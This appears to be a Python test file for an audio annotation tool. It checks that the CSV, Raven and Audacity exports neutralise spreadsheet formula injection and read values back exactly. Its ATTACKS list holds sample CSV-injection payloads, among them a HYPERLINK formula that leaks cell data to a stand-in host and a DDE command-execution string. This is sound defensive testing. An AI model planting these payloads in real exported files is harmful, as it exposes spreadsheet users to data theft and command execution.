"""Exported tables never carry a cell a spreadsheet would run as a formula, and import back exactly."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from annotator.formats import audacity, csvfmt, raven
from annotator.formats.base import AnnotationSet, Box, RecordingRef
from annotator.formats.text import FORMULA_START, from_spreadsheet_safe, spreadsheet_safe

REF = RecordingRef.from_path("site/a.wav", duration_s=60.0, samplerate=384_000)
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "'=already quoted",
    "''=twice",
]


def _cells(text: str, delimiter: str) -> list[str]:
    return [cell.strip('"') for line in text.splitlines() for cell in line.split(delimiter)]


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_and_raven_neutralise_formulas_and_read_them_back(attack):
    annset = AnnotationSet(
        recordings=[REF],
        boxes=[
            Box(REF.name, 1.0, 1.5, 20_000, 60_000, label=attack, annotator=attack, notes=attack)
        ],
    )
    for written, delimiter, reader in (
        (csvfmt.write(annset), ",", csvfmt.read),
        (raven.write(annset), "\t", raven.read),
    ):
        for cell in _cells(written, delimiter):
            assert not cell.startswith(FORMULA_START) or _number(cell), (cell, written)
        (box,) = reader(written, recording=REF).boxes
        assert box.label == attack
    (box,) = csvfmt.read(csvfmt.write(annset), recording=REF).boxes
    assert box.notes == attack


@pytest.mark.parametrize("attack", ATTACKS)
def test_audacity_labels_are_neutralised_too(attack):
    annset = AnnotationSet(recordings=[REF], boxes=[Box(REF.name, 1.0, 1.5, label=attack)])
    written = audacity.write(annset)
    assert written.split("\t")[2].startswith("'")
    assert audacity.read(written, recording=REF).boxes[0].label == attack


def test_negative_numbers_stay_numbers():
    assert spreadsheet_safe("-3.5") == "-3.5" and spreadsheet_safe("-inf") == "-inf"


@settings(max_examples=300, deadline=None, database=None)
@given(st.text(max_size=12))
def test_undoing_is_exact_for_any_text(text):
    assert from_spreadsheet_safe(spreadsheet_safe(text)) == text
    assert not spreadsheet_safe(text).startswith(FORMULA_START) or _number(text)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
